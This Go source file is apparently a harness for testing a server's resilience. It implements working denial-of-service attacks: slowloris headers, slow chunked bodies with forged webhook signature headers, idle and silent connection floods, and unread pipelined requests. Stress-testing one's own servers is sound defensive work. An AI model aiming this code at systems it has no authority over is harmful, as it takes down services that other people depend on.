// Package attack does to a server what strangers can: all of it without a secret or a token.
package attack

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// Target is the server under attack.
type Target struct {
	Addr string
	TLS  *tls.Config // nil: it speaks plain HTTP
}

// Attack is one way to keep a server from its work.
type Attack struct {
	Name string
	// Run goes on until the context ends. It calls ready once its first wave is complete.
	Run func(ctx context.Context, at Target, ready func())
}

// HookPath is where bodies are read before they are believed.
const HookPath = "/hooks/custom-access-token"

// crowd is more connections than a server takes.
const crowd = 1100

// reopen is how long who was thrown out takes to come back. Attackers on the server's own machine take its time as well:
// with no rest at all, they would be what is measured.
const reopen = time.Second

// All are the attacks that are known to have worked somewhere.
var All = []Attack{
	{"idle connections after one request", each(crowd, idle)},
	{"unsigned bodies of 1 MiB, sent slowly", each(300, slowBody)},
	{"240 streams on one HTTP/2 connection", streams},
	{"headers that never end", each(crowd, slowHeader)},
	{"handshakes that never begin", silent},
	{"bodies that never begin", each(crowd, noBody)},
	{"answers that are never read", each(20, unread)},
}

// each keeps n connections busy: where one is closed, another is opened.
func each(n int, suffer func(context.Context, net.Conn)) func(context.Context, Target, func()) {
	return func(ctx context.Context, at Target, ready func()) {
		crowdOf(ctx, n, ready, func() (net.Conn, error) { return at.dial(ctx) }, suffer)
	}
}

// silent connects and says nothing, not even what TLS begins with.
func silent(ctx context.Context, at Target, ready func()) {
	open := func() (net.Conn, error) { return new(net.Dialer).DialContext(ctx, "tcp", at.Addr) }
	crowdOf(ctx, crowd, ready, open, hold)
}

func crowdOf(ctx context.Context, n int, ready func(), open func() (net.Conn, error), suffer func(context.Context, net.Conn)) {
	var first, all sync.WaitGroup
	for range n {
		first.Add(1)
		all.Go(func() {
			tried := sync.OnceFunc(first.Done)
			defer tried()
			for ctx.Err() == nil {
				conn, err := open()
				tried()
				if err != nil {
					pause(ctx, reopen)
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
				suffer(ctx, conn)
				stop()
				_ = conn.Close()
				pause(ctx, reopen)
			}
		})
	}
	first.Wait()
	ready()
	all.Wait()
}

func (t Target) dial(ctx context.Context) (net.Conn, error) {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	if t.TLS == nil {
		return new(net.Dialer).DialContext(ctx, "tcp", t.Addr)
	}
	config := t.TLS.Clone()
	config.NextProtos = []string{"http/1.1"}
	return (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", t.Addr)
}

// hold waits until the server closes.
func hold(_ context.Context, conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }

func idle(ctx context.Context, conn net.Conn) {
	if _, err := io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"); err == nil {
		hold(ctx, conn)
	}
}

const postHead = "POST " + HookPath + " HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n" + fakeSignature + "\r\n"

const fakeSignature = "Content-Type: application/json\r\nWebhook-Id: x\r\nWebhook-Timestamp: 1\r\nWebhook-Signature: v1,x\r\n"

// slowBody sends 80 KiB in a second, up to 1 MiB, and does not tell how much it will be.
func slowBody(ctx context.Context, conn net.Conn) {
	head := strings.Replace(postHead, "Content-Length: 1048576", "Transfer-Encoding: chunked", 1)
	if _, err := io.WriteString(conn, head); err != nil {
		return
	}
	part := "2000\r\n" + strings.Repeat("x", 8<<10) + "\r\n"
	for range 127 {
		if _, err := io.WriteString(conn, part); err != nil || pause(ctx, 100*time.Millisecond) {
			return
		}
	}
	hold(ctx, conn)
}

func noBody(ctx context.Context, conn net.Conn) {
	if _, err := io.WriteString(conn, strings.Replace(postHead, "1048576", "1000", 1)); err == nil {
		hold(ctx, conn)
	}
}

func slowHeader(ctx context.Context, conn net.Conn) {
	if _, err := io.WriteString(conn, "POST "+HookPath+" HTTP/1.1\r\nHost: x\r\n"); err != nil {
		return
	}
	for !pause(ctx, 500*time.Millisecond) {
		if _, err := io.WriteString(conn, "X: y\r\n"); err != nil {
			return
		}
	}
}

// unread asks again and again, and never looks at an answer.
func unread(ctx context.Context, conn net.Conn) {
	under := conn
	if secured, ok := conn.(*tls.Conn); ok {
		under = secured.NetConn()
	}
	if tcp, ok := under.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4096)
	}
	many := strings.Repeat("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", 100)
	for {
		if _, err := io.WriteString(conn, many); err != nil || pause(ctx, 100*time.Millisecond) {
			return
		}
	}
}

// pause reports whether the context has ended.
func pause(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return true
	case <-time.After(d):
		return false
	}
}
